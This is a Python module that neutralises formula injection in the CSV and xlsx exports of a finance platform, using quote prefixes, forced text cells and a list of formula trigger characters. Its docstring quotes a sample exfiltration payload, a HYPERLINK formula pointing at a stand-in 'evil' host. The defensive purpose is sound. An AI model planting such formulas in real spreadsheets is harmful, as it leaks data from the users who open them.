"""Spreadsheets and CSV files that leave the platform, with formulas neutralised.

Text in an export comes from members and bank statements (payer names, remarks, project titles).
Opened in Excel or WPS, a cell that starts with `=`, `+`, `-` or `@` (or a tab or carriage return
before one) is taken as a formula: `=HYPERLINK("http://evil/?"&A1,"点击")` or a DDE call runs on
finance's desktop. Every export goes through this module:

- xlsx: text is written as a text cell (never a formula) and a risky one gets Excel's
  "quote prefix" style, so the reader sees exactly the text that was stored and editing the
  cell does not turn it into a formula either;
- CSV: a risky text value gets a leading apostrophe, the usual neutralisation (a CSV has no
  types, so the text itself must change).

Numbers, dates and Decimals stay typed (a negative amount is a number, not text).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal
from typing import Any

# What makes Excel/WPS read a cell as a formula, including the full-width forms a Chinese
# input method produces, and the control characters that can precede them.
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_TYPED = (int, float, Decimal, dt.date, dt.time, type(None))


def is_risky(text: str) -> bool:
    """Whether a spreadsheet would read this text as a formula."""
    return text.lstrip(" ").startswith(FORMULA_TRIGGERS)


def csv_safe(value: Any) -> Any:
    """A value for a CSV cell: risky text gets a leading apostrophe; everything else is kept."""
    if isinstance(value, _TYPED):
        return value
    text = str(value)
    return "'" + text if is_risky(text) else text


def csv_bytes(header: Sequence[Any] | None, rows: Iterable[Sequence[Any]], *, encoding: str = "utf-8-sig") -> bytes:
    """A whole CSV file (CRLF lines), every cell through `csv_safe`."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    if header is not None:
        writer.writerow([csv_safe(v) for v in header])
    for row in rows:
        writer.writerow([csv_safe(v) for v in row])
    return out.getvalue().encode(encoding)


def xlsx_bytes(title: str, header: Sequence[Any], rows: Iterable[Sequence[Any]], *, bold_header: bool = True) -> bytes:
    """A one-sheet workbook: typed values stay typed, text is always text (never a formula)."""
    return xlsx_book_bytes([(title, header, rows)], bold_header=bold_header)


def xlsx_book_bytes(
    sheets: Sequence[tuple[str, Sequence[Any], Iterable[Sequence[Any]]]], *, bold_header: bool = True
) -> bytes:
    """A workbook of several sheets, each (title, header, rows), written like `xlsx_bytes`."""
    from openpyxl import Workbook
    from openpyxl.styles import Font

    book = Workbook()
    for n, (title, header, rows) in enumerate(sheets):
        sheet = book.active if n == 0 else book.create_sheet()
        sheet.title = _sheet_title(str(title))
        append_row(sheet, header)
        if bold_header:
            for cell in sheet[1]:
                cell.font = Font(bold=True)
        for row in rows:
            append_row(sheet, row)
        for column in sheet.columns:
            width = max(len(str(c.value or "")) for c in column)
            sheet.column_dimensions[column[0].column_letter].width = min(max(10, width * 1.6), 48)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def append_row(sheet: Any, values: Sequence[Any]) -> None:
    """Append a row to an openpyxl sheet with every text cell forced to text."""
    sheet.append([v if isinstance(v, _TYPED) else str(v) for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"  # openpyxl stores a text starting with "=" as a formula
            if is_risky(cell.value):
                cell.quotePrefix = True


def _sheet_title(title: str) -> str:
    """Excel's limits: 31 characters, none of []:*?/\\."""
    cleaned = "".join(" " if ch in "[]:*?/\\" else ch for ch in title).strip()
    return (cleaned or "Sheet")[:31]
